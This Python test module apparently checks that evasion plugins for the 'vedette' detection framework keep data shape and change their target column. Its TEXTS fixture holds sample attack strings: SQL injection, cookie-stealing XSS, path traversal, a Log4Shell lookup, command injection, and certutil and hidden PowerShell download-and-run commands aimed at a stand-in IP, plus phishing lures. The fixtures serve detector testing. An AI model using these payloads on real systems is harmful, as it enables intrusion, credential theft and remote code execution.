"""The laws of evasions."""

from __future__ import annotations

from random import Random

import polars as pl
from polars.testing import assert_frame_equal

from vedette.abc import Detector, Evasion
from vedette.events.schema import SCHEMAS
from vedette.plugins import discover
from vedette.testing.events import random_events

TEXTS = {
    "url.url_string": ("http://paypa1-secure.example.top/login/verify.php?id=7", "https://a.example/x", "example.com"),
    "http_request.url.url_string": (
        "/shop.php?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--%20",
        "/search?q=<script>alert(document.cookie)</script>",
        "/download?file=../../../../etc/passwd",
        "/?x=${jndi:ldap://192.0.2.7/a}",
        "/ping?host=127.0.0.1;cat%20/etc/passwd",
    ),
    "http_request.url.query_string": ("id=1%27+union+select+null--+-", "q=%3Cscript%3Ealert(1)%3C/script%3E&page=2"),
    "query.hostname": ("xkqjvbzpwq.example", "mail.kfjwoeiruty.example.net", "a1b2c3d4e5f6.test"),
    "process.cmd_line": (
        "C:\\Windows\\System32\\certutil.exe -urlcache -split -f http://192.0.2.7/a.exe C:\\Users\\Public\\a.exe",
        "powershell.exe -nop -w hidden -c iex (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')",
    ),
    "osint.value": (["malice.example"], ["good.example"]),
    "email.subject": ("Your account is suspended: verify your password now", "Cheap pills, no prescription"),
    "vedette.body_text": (
        "Dear customer, we noticed unusual activity. Click http://login.example.test/verify and enter your password today.",
        "Buy cheap pills now! Free offer, winner, casino, 100% guaranteed. Reply to unsubscribe.",
    ),
    "vedette.body_html": (
        "<html><body><p>Click <a href='http://login.example.test/'>here</a> to win</p></body></html>",
    ),
}
"""What an attacker's item looks like, in the columns that evasions rewrite; made up."""
ITEMS = 60


def items_for(evasion: type[Evasion]) -> pl.DataFrame:
    """Return made-up malicious events of its class; in some of them a column is null, as in life."""
    events = random_events(evasion.kind, n=ITEMS, seed=5).frame
    for column, texts in TEXTS.items():
        if column in events.columns:
            some = [texts[i % len(texts)] if i % 10 or column == evasion.column else None for i in range(ITEMS)]
            events = events.with_columns(pl.Series(column, some, dtype=SCHEMAS[evasion.kind][column]))
    return events


def names_what_it_rewrites(evasion: type[Evasion]) -> None:
    """Its column stands in its class, and its detectors exist."""
    assert evasion.column in SCHEMAS[evasion.kind], f"{evasion.column} is no column of {evasion.kind.caption}"
    unknown = [d for d in evasion.detectors if d not in discover(Detector)]
    assert evasion.detectors, "it is aimed at no detector"
    assert not unknown, f"no such detectors: {unknown}"


def keeps_rows_columns_and_order(evasion: type[Evasion]) -> None:
    """The same rows in the same order, the same columns with the same types; the input is untouched; nothing gives nothing."""
    events = items_for(evasion)
    before = events.clone()
    changed = evasion().rewrite(events, Random(1))
    assert_frame_equal(events, before)
    assert changed.schema == events.schema, "columns or types differ"
    assert changed.height == events.height, "rows were added or lost"
    assert_frame_equal(changed.select("time", "metadata.sequence"), events.select("time", "metadata.sequence"))
    assert evasion().rewrite(events.clear(), Random(1)).schema == events.schema


def changes_what_it_says(evasion: type[Evasion]) -> None:
    """At least half of the items are changed in its column."""
    events = items_for(evasion)
    changed = evasion().rewrite(events, Random(1))[evasion.column]
    same = sum(a == b for a, b in zip(changed.to_list(), events[evasion.column].to_list(), strict=True))
    assert same <= ITEMS // 2, f"{same} of {ITEMS} items are as they were"


def depends_on_its_chance_alone(evasion: type[Evasion]) -> None:
    """The same events and the same chance give the same."""
    events = items_for(evasion)
    assert_frame_equal(evasion().rewrite(events, Random(3)), evasion().rewrite(events, Random(3)))


LAWS = (
    names_what_it_rewrites,
    keeps_rows_columns_and_order,
    changes_what_it_says,
    depends_on_its_chance_alone,
)
